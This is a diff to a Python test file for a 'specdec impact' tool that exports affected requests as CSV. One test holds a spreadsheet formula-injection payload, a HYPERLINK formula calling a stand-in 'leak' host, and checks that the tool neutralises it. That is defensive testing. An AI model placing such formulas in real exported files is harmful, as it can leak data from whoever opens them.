@@ -3,6 +3,8 @@ contaminated hits; the summaries' answers equal the rows'."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from datetime import datetime, timezone
 
@@ -123,7 +125,7 @@ def test_a_consumers_affected_requests_and_wrong_outputs_over_time(store):
     t2 = affected_requests(store, "t2")
     assert list(zip(t2.request_id, t2.kind, t2.served_from, strict=True)) == [
         ("h1", "contaminated_hit", "A"), ("m2", "length_violation", "")]
-    assert affected_csv(store, "t2").splitlines()[1].startswith("h1,2026-03-01T10:01:00.000Z,contaminated_hit,t2,B")
+    assert affected_csv(store, "t2").decode().splitlines()[1].startswith("h1,2026-03-01T10:01:00.000Z,contaminated_hit,t2,B")
     over = wrong_outputs_over_time(store, bucket="1 hour")
     assert dict(zip(over.consumer, over.wrong, strict=True)) == {"t1": 2, "t2": 2, "": 1}
 
@@ -149,6 +151,59 @@ def test_the_cli_prints_the_contracts_json(store, tmp_path):
     missing = run_cli("impact", "--db", str(tmp_path / "nothing.duckdb"))
     assert missing.returncode == 1 and len(missing.stderr.strip().splitlines()) == 1
     assert run_cli("impact", "--db", str(store.path), "--by", "tenant").returncode == 2
+
+
+def test_the_cli_writes_the_affected_requests_of_every_consumer_or_of_one(store, tmp_path):
+    """What the Impact page downloads for one consumer, from the terminal, for one or all of them at once."""
+    release_snapshots()
+    out = tmp_path / "affected.csv"
+    done = run_cli("impact", "--db", str(store.path), "--out", str(out))
+    assert done.returncode == 0, done.stderr
+    assert done.stdout.strip() == f"wrote 4 affected requests (every consumer) to {out}"
+    rows = list(csv.DictReader(out.open(newline="", encoding="utf-8")))
+    assert [(r["consumer"], r["request_id"], r["kind"]) for r in rows] == [
+        ("", "h4", "contaminated_hit"), ("t1", "h3", "contaminated_hit"),
+        ("t2", "h1", "contaminated_hit"), ("t2", "m2", "length_violation")]
+    assert out.read_bytes() == affected_csv(store, None)
+    one = run_cli("impact", "--db", str(store.path), "--out", "-", "--consumer", "t2")
+    assert one.returncode == 0 and one.stdout.encode() == affected_csv(store, "t2")
+    assert one.stderr.strip() == "wrote 2 affected requests (t2) to standard output"
+    unnamed = run_cli("impact", "--db", str(store.path), "--out", "-", "--consumer", "")
+    assert [r["request_id"] for r in csv.DictReader(io.StringIO(unnamed.stdout))] == ["h4"]
+    nobody = run_cli("impact", "--db", str(store.path), "--out", str(tmp_path / "t3.csv"), "--consumer", "t3")
+    assert nobody.returncode == 0
+    assert nobody.stderr.strip() == "specdec impact: no consumer 't3' in this store (it holds: (none), t1, t2)"
+    for wrong in (["--consumer", "t2"], ["--out", "-", "--by", "experiment"], ["--out", "-", "--experiments"],
+                  ["--out", str(store.path)]):
+        done = run_cli("impact", "--db", str(store.path), *wrong)
+        assert done.returncode == 2 and len(done.stderr.strip().splitlines()) == 1, (wrong, done.stderr)
+    assert Store(store.path).exists, "the store was not overwritten"
+
+
+def test_the_affected_requests_csv_shows_log_text_and_never_runs_it(tmp_path):
+    """A consumer's name and an output's first characters come from the log: the customer notice's CSV shows
+    them in a spreadsheet, not runs them as formulas, and a carriage return in one does not split its row."""
+    who, said = '=HYPERLINK("http://example.invalid/?leak","open")', "@SUM(1+1)\rsecond line"
+    log = write_jsonl(tmp_path / "log.jsonl", [
+        rec("m", ts=_ts(0), cache_key="K", temperature=0.7, draft_model="d1", consumer="-1", output_text=said),
+        rec("h", ts=_ts(1), cache_key="K", temperature=0.7, draft_model="d2", cache_hit=True, consumer=who,
+            output_text=said)])
+    db = Store(tmp_path / "s.duckdb")
+    assert ingest(db, [str(log)]).accepted == 2
+
+    def read(data: bytes) -> list[dict[str, str]]:
+        return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
+
+    [row] = read(affected_csv(db, who))
+    assert (row["request_id"], row["consumer"], row["output_preview"]) == ("h", "'" + who, "'" + said)
+    [row] = read(affected_csv(db, who, raw=True))
+    assert (row["consumer"], row["output_preview"]) == (who, said)
+    [row] = read(affected_csv(db, None))
+    assert (row["consumer"], row["output_preview"]) == ("'" + who, "'" + said)
+    release_snapshots()
+    done = run_cli("impact", "--db", str(db.path), "--out", str(tmp_path / "a.csv"), "--consumer", who)
+    assert done.returncode == 0, done.stderr
+    assert (tmp_path / "a.csv").read_bytes() == affected_csv(db, who)
 
 
 def test_a_store_made_before_the_fields_gains_them_on_migrate(tmp_path):
